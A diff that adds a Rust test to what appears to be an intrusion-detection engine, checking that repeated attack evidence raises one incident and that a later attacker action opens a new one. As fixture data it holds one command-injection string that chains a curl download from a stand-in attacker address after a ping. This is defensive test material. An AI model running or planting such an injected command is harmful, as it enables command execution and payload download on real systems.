@@ -133,6 +133,29 @@ fn a_clock_that_was_years_ahead_does_not_blind_the_engine() {
 }
 
 #[test]
+fn what_was_told_to_its_end_is_not_raised_again() {
+    let mut run = Run::new();
+    // The same evidence again and again, and a line at last, until long after nothing of it can count any more.
+    for quarter in 0..100_u32 {
+        run.advance(f64::from(quarter) * 900.0);
+        full_chain().into_iter().for_each(|input| run.feed(input));
+        run.feed(injection(-1.0));
+    }
+    let raised = |run: &Run| -> Vec<String> {
+        let first = run.revisions.iter().filter(|incident| incident.revision == 1);
+        first.map(|incident| incident.id.clone()).collect()
+    };
+    assert_eq!((run.finals().len(), raised(&run).len()), (1, 1));
+    // What the intruder does next is a chain of its own.
+    let next = 99.0 * 900.0;
+    run.feed(shell(next, "ping 127.0.0.1;curl http://203.0.113.7/x"));
+    run.feed(injection(next - 0.1));
+    run.settle();
+    let ids = raised(&run);
+    assert!(ids.len() == 2 && ids[0] != ids[1], "{ids:?}");
+}
+
+#[test]
 fn incidents_of_one_attacker_share_a_campaign() {
     let mut run = Run::of(full_chain());
     let others = full_chain().into_iter().map(|input| match input {
